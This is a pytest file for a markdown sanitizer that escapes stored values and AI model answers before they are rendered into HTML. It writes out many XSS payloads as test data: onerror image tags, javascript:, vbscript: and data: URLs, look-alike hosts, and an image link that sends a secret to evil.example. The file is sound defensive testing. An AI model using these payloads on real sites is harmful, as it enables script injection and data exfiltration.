"""genai/markdown.py: stored values and the model's answers are inert when marked renders them into innerHTML.

These check the text itself (every character that can open markup is escaped, nothing is lost);
tests/browser/test_widget.py renders the same vectors with marked in Chromium.
"""

from __future__ import annotations

import html
import re
import sys
import time
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))  # tests/ for xss_vectors
sys.path.insert(0, str(Path(__file__).resolve().parent.parent.parent))  # the repository, for genai

from genai import markdown
from xss_vectors import VECTORS, render

OTHER = "https://evil.example"
ALLOWED = frozenset({"docs.example"})
# What markdown lets a backslash escape (CommonMark: ASCII punctuation).
PUNCTUATION = set("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
ENTITIES = ("&amp;", "&lt;", "&gt;", "&quot;", "&#39;")


def unescaped(text: str) -> list[tuple[int, str]]:
    """Each character of the markdown source that is not backslash-escaped, with its position."""
    out, i = [], 0
    while i < len(text):
        if text[i] == "\\" and i + 1 < len(text) and text[i + 1] in PUNCTUATION:
            i += 2
            continue
        out.append((i, text[i]))
        i += 1
    return out


def shown(text: str) -> str:
    """What a reader sees of markdown that has only escapes in it: the escapes undone, entities decoded."""
    out, i = [], 0
    while i < len(text):
        escaped = text[i] == "\\" and i + 1 < len(text) and text[i + 1] in PUNCTUATION
        out.append(text[i + escaped])
        i += 1 + escaped
    return html.unescape("".join(out))


def assert_inert(text: str, extra: str = "") -> None:
    """No character of `text` can open HTML, a link, an image, an autolink or code; & only in an entity."""
    text = re.sub("|".join(ENTITIES), "E", text)  # one letter per entity: the scan below sees no "#"
    for i, char in unescaped(text):
        assert char not in "<>[]`@&" + extra, f"unescaped {char!r} at {i} in {text!r}"
        if char == ":" and i and text[i - 1].isascii() and text[i - 1].isalnum():
            assert not text.startswith("/", i + 1), f"a scheme's colon at {i} in {text!r}"
        if char == "." and text[max(0, i - 3):i].lower() == "www":
            raise AssertionError(f"www. at {i} in {text!r}")


def vector_texts() -> list[pytest.param]:
    return [pytest.param(render(template, 1, OTHER), id=name) for name, template in VECTORS.items()]


@pytest.mark.parametrize("text", vector_texts())
def test_answer_vectors_are_inert(text: str) -> None:
    out = markdown.safe_answer(text)
    assert_inert(out)


@pytest.mark.parametrize("text", vector_texts())
def test_answer_vectors_with_allowed_hosts_are_inert(text: str) -> None:
    """Allowing a host changes nothing for text that points elsewhere."""
    assert markdown.safe_answer(text, ALLOWED) == markdown.safe_answer(text)


@pytest.mark.parametrize("text", vector_texts())
def test_value_vectors_are_inert(text: str) -> None:
    out = markdown.escape_text(text)
    assert_inert(out, extra="*_()!#|~\"'\n\r")
    assert shown(out) == text.replace("\n", " ")


@pytest.mark.parametrize(
    "value",
    [
        "<img src=x onerror=alert(1)>",
        "Jean Coleman",
        "김철수",
        "José Müller-Lüdenscheidt",
        "O'Brien \"Bob\"",
        "a*b*c _d_ ~~e~~ `f` #g |h| !i [j](k)",
        "back\\slash \\[not a link](x)",
        "http://evil.example www.evil.example a@b.example",
        "주인: 김철수 (010-1234-5678)",
        "&lt;script&gt; &#106;",
    ],
)
def test_escape_text_keeps_what_it_shows(value: str) -> None:
    out = markdown.escape_text(value)
    assert_inert(out, extra="*_()!#|~\"'")
    assert shown(out) == value


def test_escape_text_keeps_letters_of_any_script_as_they_are() -> None:
    for value in ("김철수", "코코", "José", "Ærøskøbing", "Ωmega", "Jean Coleman", "李小龍"):
        assert markdown.escape_text(value) == value


def test_escape_text_puts_a_value_on_one_line() -> None:
    assert markdown.escape_text("first\nsecond\r\nthird\rfourth\u2028fifth\tsixth\x00") == "first second third fourth fifth sixth "
    assert markdown.escape_text("a\n\n# heading\n\n- item") == "a  \\# heading  - item"


def test_escape_text_of_none_and_numbers() -> None:
    assert markdown.escape_text(None) == ""
    assert markdown.escape_text(42) == "42"


def test_the_issue_example_quoted_in_a_done_text() -> None:
    name = "<img src=x onerror=alert(1)>"
    text = f"Done: added owner **{markdown.escape_text(name)}**."
    assert text == "Done: added owner **&lt;img src=x onerror=alert\\(1\\)&gt;**."


@pytest.mark.parametrize(
    "text",
    [
        "**Coco**의 주인은 *Jean Coleman*입니다.",
        "코코의 주인은 __김철수__ 님입니다. 방문 기록: 2024-01-02, 10:30 (예방접종).",
        "- 하나\n- 둘\n  - 셋\n\n1. first\n2. second",
        "| 이름 | 종류 |\n|:---|---:|\n| Coco | 고양이 |",
        "# 요약\n\n## Visits\n\n첫 줄  \n둘째 줄\n\n---\n\n~~old~~ new",
        "Leo (cat), Basil (hamster); 3 visits! #1 is *due*.",
        "José Müller, Ærøskøbing — naïve café",
    ],
)
def test_ordinary_markdown_passes_unchanged(text: str) -> None:
    """Bold, emphasis, lists, tables, headings, hard breaks, rules and Korean need no escaping."""
    assert markdown.safe_answer(text) == text


def test_answer_shows_the_same_text() -> None:
    text = "Tom & Jerry <3 a<b>c [1] `x` \\ email a@b x:/y"
    out = markdown.safe_answer(text)
    assert_inert(out)
    assert shown(out) == text


def test_answer_html_becomes_entities() -> None:
    assert markdown.safe_answer("<img src=x onerror=alert(1)>") == "&lt;img src=x onerror=alert(1)&gt;"
    assert markdown.safe_answer("&lt;script&gt;") == "&amp;lt;script&amp;gt;"
    assert markdown.safe_answer("<!-- c -->") == "&lt;!-- c --&gt;"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![](https://evil.example/p.png?d=secret)", "https\\://evil.example/p.png?d=secret"),
        ("![the chart](https://evil.example/c.png)", "the chart (https\\://evil.example/c.png)"),
        ("[docs](https://evil.example/page)", "docs (https\\://evil.example/page)"),
        ("[x](javascript:alert(1))", "\\[x\\](javascript:alert(1))"),
        ("[x](JaVaScRiPt:alert)", "x (JaVaScRiPt:alert)"),
        ("[x](&#106;avascript:alert)", "x (&amp;#106;avascript:alert)"),
        ("<javascript:alert(1)>", "javascript:alert(1)"),
        ("<https://evil.example/a>", "https\\://evil.example/a"),
        ("see https://evil.example/a.", "see https\\://evil.example/a."),
        ("HTTPS://EVIL.EXAMPLE", "HTTPS\\://EVIL.EXAMPLE"),
        ("www.evil.example and WWW.EVIL.EXAMPLE", "www\\.evil.example and WWW\\.EVIL.EXAMPLE"),
        ("a@evil.example", "a\\@evil.example"),
        ("![x][1]\n\n[1]: https://evil.example/a.png", "!\\[x\\]\\[1\\]\n\n\\[1\\]: https\\://evil.example/a.png"),
        ("[a [b] c](javascript:alert(1))", "\\[a \\[b\\] c\\](javascript:alert(1))"),
        ("\\[x](javascript:alert)", "\\\\x (javascript:alert)"),
    ],
)
def test_links_and_images_to_other_hosts_become_text(text: str, expected: str) -> None:
    assert markdown.safe_answer(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[the docs](https://docs.example/a?b=1&c=2#d)", "[the docs](https://docs.example/a?b=1&c=2#d)"),
        ("[**bold** <b>](HTTPS://DOCS.EXAMPLE/a)", "[**bold** &lt;b&gt;](https://DOCS.EXAMPLE/a)"),
        ('![a "chart"](https://docs.example/c.png)', "![a chart](https://docs.example/c.png)"),
        ("<https://docs.example/x>", "<https://docs.example/x>"),
        ("see https://docs.example/x.", "see <https://docs.example/x>."),
        ("see https://docs.example./x", "see <https://docs.example./x>"),
        ("[x](https://docs.example:8443/x)", "[x](https://docs.example:8443/x)"),
        # look-alikes of the allowed host stay text
        ("[x](https://docs.example@evil.example/)", "x (https\\://docs.example\\@evil.example/)"),
        ("[x](https://docs.example.evil.example/)", "x (https\\://docs.example.evil.example/)"),
        ("[x](//docs.example/a)", "x (//docs.example/a)"),
        ("[x](ftp://docs.example/a)", "x (ftp\\://docs.example/a)"),
        ("![x](data:image/png;base64,AAAA)", "x (data:image/png;base64,AAAA)"),
    ],
)
def test_links_to_allowed_hosts_stay(text: str, expected: str) -> None:
    assert markdown.safe_answer(text, ALLOWED) == expected


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "\x01javascript:alert(1)",
        "java\tscript:alert(1)",
        "&#106;avascript:alert(1)",
        "%6Aavascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "https://evil.example/",
        "https://docs.example@evil.example/",
        "https://evil.example\\@docs.example/",
        "https://docs.example\\.evil.example/",
        "https://docs.example.evil.example/",
        "https://evil.example/?docs.example",
        "//docs.example/",
        "https:docs.example",
        "https://docs.example/\"onerror=alert(1)",
        "https://docs.example/<x>",
        "https://docs.example/ space",
        "https://docs.example/'",
        "https://dоcs.example/",  # a Cyrillic о
        " https://docs.example/",
        "https://docs.example/\n",
    ],
)
def test_safe_url_refuses(url: str) -> None:
    assert markdown.safe_url(url, ALLOWED) is None


def test_safe_url_accepts_the_allowed_hosts_only() -> None:
    assert markdown.safe_url("https://docs.example/a", ALLOWED) == "https://docs.example/a"
    assert markdown.safe_url("HTTP://Docs.Example/a", ALLOWED) == "http://Docs.Example/a"
    assert markdown.safe_url("https://docs.example", ALLOWED) == "https://docs.example"
    assert markdown.safe_url("https://docs.example/a", frozenset()) is None
    assert markdown.safe_url("https://docs.example/a", {"DOCS.EXAMPLE."}) == "https://docs.example/a"


def test_a_host_is_allowed_only_when_named() -> None:
    """The vectors aimed at docs.example: inert without allowed hosts, and with another one allowed."""
    text = "\n\n".join(render(template, 1, "https://docs.example") for template in VECTORS.values())
    assert_inert(markdown.safe_answer(text))
    assert_inert(markdown.safe_answer(text, {"other.example"}))


def test_controls_and_line_endings() -> None:
    assert markdown.safe_answer("a\r\nb\rc\x00d\x07e\u2028f\tg") == "a\nb\nc\ufffdd e f\tg"


ADVERSARIAL = ["[", "[a", "![", "[a](", "](", "<a", "<ab:", "http://", "http://x", "www.", "[a](bbbbbbbbb", "\\", "&<>", "!",
               "[" + "a" * 499, "[a](" + "b" * 100 + " ", "<ab:" + "c" * 300, "https://docs.example/" + "a" * 50 + " "]


def _seconds(function, text: str) -> float:
    best = float("inf")
    for _ in range(3):
        start = time.process_time()  # this process's CPU: other processes' load does not count
        function(text, ALLOWED) if function is markdown.safe_answer else function(text)
        best = min(best, time.process_time() - start)
    return best


@pytest.mark.parametrize("function", [markdown.safe_answer, markdown.escape_text], ids=["safe_answer", "escape_text"])
@pytest.mark.parametrize("unit", ADVERSARIAL)
def test_work_is_linear_in_the_input(function, unit: str) -> None:
    """Eight times the input costs about eight times the work (a quadratic rule would cost 64 times):
    10 KB (the largest answer) and 80 KB of the repeated unit, best of three. Below a quarter of a second
    the ratio is not read (timer and cache noise); a rule that rescans the rest of the text from each
    bracket takes seconds on 80 KB."""
    small = (unit * (10_000 // len(unit) + 1))[:10_000]
    large = (unit * (80_000 // len(unit) + 1))[:80_000]
    small_time, large_time = _seconds(function, small), _seconds(function, large)
    assert small_time < 0.25
    assert large_time < max(24 * small_time, 0.25), (small_time, large_time)


@pytest.mark.parametrize("name", ["O'Brien", "Jean-Luc Picard", "김철수", "코코", "José (Pepe)", "J. R. R. Tolkien", "Leo!", "Ærøskøbing",
                                  "Tom & Jerry", "Mr. Smith, Jr."])
def test_has_markup_lets_names_through(name: str) -> None:
    assert not markdown.has_markup(name)


@pytest.mark.parametrize("template", list(VECTORS.values()), ids=list(VECTORS))
def test_has_markup_refuses_every_vector(template: str) -> None:
    assert markdown.has_markup(render(template, 1, OTHER))


@pytest.mark.parametrize("name", ["a&#106;", "x&amp;y", "javascript:x", "JaVaScRiPt:x", "data:x", "http://e", "www.e", "a*b*", "a_b_",
                                  "`x`", "a\\b", "a|b", "# a", "~~a~~", "a\nb", "a\tb", "a\x00", "a\u2028b", "{x}", 'say "hi"'])
def test_has_markup_refuses_markup_in_names(name: str) -> None:
    assert markdown.has_markup(name)
